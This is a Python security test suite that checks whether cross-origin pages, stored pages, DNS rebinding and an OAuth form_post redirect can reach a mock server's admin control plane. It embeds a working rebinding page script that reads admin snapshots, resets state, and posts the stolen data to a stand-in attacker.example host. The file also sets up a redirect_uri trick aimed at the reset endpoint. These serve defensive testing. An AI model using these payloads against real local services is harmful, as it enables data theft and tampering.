"""A page of another origin, in a real browser, tries each way in: the control plane stays shut."""
import json
import unittest
import urllib.parse

from stage import CANARY, Attacker, Browser, Door, Graphmock

# What a name leads to before it is bound to this machine: a page that then asks its own origin.
REBOUND = """<!doctype html><script>
(async () => {
  const read = await fetch('/__admin/snapshots').then(answer => answer.text());
  await fetch('/__admin/reset', { method: 'POST' });
  await fetch('ATTACKER/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(read) });
})();
</script>"""


class Pages(unittest.TestCase):
    @classmethod
    def setUpClass(cls):
        cls.graphmock = Graphmock()

    @classmethod
    def tearDownClass(cls):
        cls.graphmock.close()

    def setUp(self):
        self.graphmock.begin()
        self.attacker = Attacker()
        self.addCleanup(self.attacker.close)
        self.before = self.graphmock.state()

    def door(self, without=None, first=None):
        door = Door(self.graphmock, without, first)
        self.addCleanup(door.close)
        return door

    def expect_shut(self, door):
        statuses = {status for _, _, status in door.seen}
        self.assertLessEqual(statuses, {403, 405}, door.seen)
        self.assertEqual(self.graphmock.state(), self.before)

    def is_reset(self):
        return self.graphmock.state()["scenarios"] != self.before["scenarios"]

    def page(self, name, hash_, host="attacker.example"):
        """The report of a page of the attacker's."""
        self.attacker.reported.clear()
        with Browser(f"http://{host}:{self.attacker.port}/{name}#{hash_}"):
            return self.attacker.wait()

    def try_all_ways(self, door, host):
        return self.page("ways.html", f"http://localhost:{door.port}", host)

    def test_every_way_of_a_page_elsewhere(self):
        for host in ("attacker.example", "localhost"):  # another site, and another port of this one
            with self.subTest(host):
                door = self.door()
                outcomes = self.try_all_ways(door, host)
                self.assertGreater(len(outcomes), 25)
                for way, outcome in outcomes.items():
                    self.assertNotIn(CANARY, outcome, way)
                    self.assertFalse(outcome.startswith("read:"), f"{way}: {outcome}")
                # They did get as far as the control plane, by each method that needs no preflight.
                self.assertGreater(sum(one[0] == "GET" for one in door.seen), 8, door.seen)
                self.assertGreaterEqual(sum(one[0] == "POST" for one in door.seen), 6, door.seen)
                self.expect_shut(door)

    def test_every_way_but_that_a_browser_tells_of_the_origin(self):
        door = self.door(without="origin")
        self.try_all_ways(door, "attacker.example")
        self.assertEqual({one[2] for one in door.seen if one[0] != "GET"}, {403}, door.seen)
        self.assertLessEqual(sum(one[2] == 200 for one in door.seen), 1, "the handshake of the socket")
        self.assertEqual(self.graphmock.state(), self.before)

    def test_every_way_but_that_a_browser_tells_of_the_site(self):
        door = self.door(without="site")
        outcomes = self.try_all_ways(door, "attacker.example")
        self.assertEqual({one[2] for one in door.seen if one[0] != "GET"}, {403}, door.seen)
        self.assertIn(200, {one[2] for one in door.seen}, "images and the like name no origin")
        self.assertNotIn(CANARY, json.dumps(outcomes))
        self.assertEqual(self.graphmock.state(), self.before)

    def test_a_link_to_the_control_plane(self):
        for without, status in ((None, 403), ("site", 200)):
            with self.subTest(without=without):
                door = self.door(without)
                url = f"http://localhost:{door.port}/__admin/snapshots"
                with Browser(f"http://attacker.example:{self.attacker.port}/leads.html#{url}"):
                    self.assertEqual(door.wait_for("GET", "/__admin/snapshots"), status)

    def test_an_address_that_is_typed_in(self):
        door = self.door()
        self.assertIn(CANARY, Browser.document(f"http://localhost:{door.port}/__admin/snapshots"))

    def store(self, door):
        places = self.page("store.html", f"http://localhost:{door.port}")
        self.assertEqual(len(places), 4)
        for path, status in places:
            self.assertLess(status, 300, path)
        self.before = self.graphmock.state()
        return [f"http://localhost:{door.port}{path}" for path, _ in places]

    def test_stored_pages(self):
        door = self.door()
        urls = self.store(door)
        door.seen.clear()
        for url in urls:
            with self.subTest(url):
                Browser.document(url)
                self.assertEqual(door.seen, [], "its script has run")
                self.expect_shut(door)

    def test_stored_pages_in_frames(self):
        door = self.door()
        urls = self.store(door)
        door.seen.clear()
        self.page("frames.html", urllib.parse.quote(json.dumps(urls)))
        self.assertEqual(door.seen, [], "a script has run")
        self.expect_shut(door)

    def test_stored_pages_would_get_in_without_the_policy(self):
        door = self.door(without="policy")
        for url in self.store(door):
            with self.subTest(url):
                door.seen.clear()
                Browser.document(url)
                self.assertEqual(door.seen, [("POST", "/__admin/reset", 204)])
                self.graphmock.begin()
                self.store(door)

    def rebind(self, without=None):
        first = REBOUND.replace("ATTACKER", f"http://attacker.example:{self.attacker.port}")
        door = self.door(without, first)
        with Browser(f"http://rebound.example:{door.port}/"):
            return door, self.attacker.wait()

    def test_a_name_that_is_bound_anew(self):
        door, read = self.rebind()
        self.assertNotIn(CANARY, read)
        self.assertEqual(len(door.seen), 2)
        self.expect_shut(door)

    def test_a_name_that_is_bound_anew_would_get_in_without_its_host(self):
        door, read = self.rebind(without="host")
        self.assertIn(CANARY, read)
        self.assertTrue(self.is_reset())

    # The token service sends a form to wherever it is told, from an address of this server.
    def sign_in(self, without=None):
        door = self.door(without)
        own = f"http://localhost:{door.port}"
        question = urllib.parse.urlencode(
            {"client_id": "any", "response_type": "code", "scope": "openid", "response_mode": "form_post",
             "redirect_uri": own + "/__admin/reset"})
        hash_ = urllib.parse.quote(f"{own}/common/oauth2/v2.0/authorize?{question}")
        with Browser(f"http://attacker.example:{self.attacker.port}/leads.html#{hash_}"):
            return door, door.wait_for("POST", "/__admin/reset")

    def test_a_sign_in_that_leads_to_the_control_plane(self):
        door, status = self.sign_in()
        self.assertEqual(status, 403)
        self.expect_shut(door)

    def test_a_sign_in_would_get_in_without_the_policy(self):
        _, status = self.sign_in(without="policy")
        self.assertEqual(status, 204)
        self.assertTrue(self.is_reset())


if __name__ == "__main__":
    unittest.main()
